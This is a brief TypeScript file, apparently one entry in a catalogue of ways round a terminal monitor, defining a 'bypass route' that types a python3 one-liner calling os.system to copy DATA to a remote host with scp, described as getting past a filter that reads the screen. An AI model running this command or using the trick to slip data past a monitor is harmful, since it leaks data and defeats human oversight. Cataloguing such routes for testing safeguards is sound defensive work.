import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'from python',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['python3 -c \'import os; os.system("scp DATA host:")\'\r'],
};
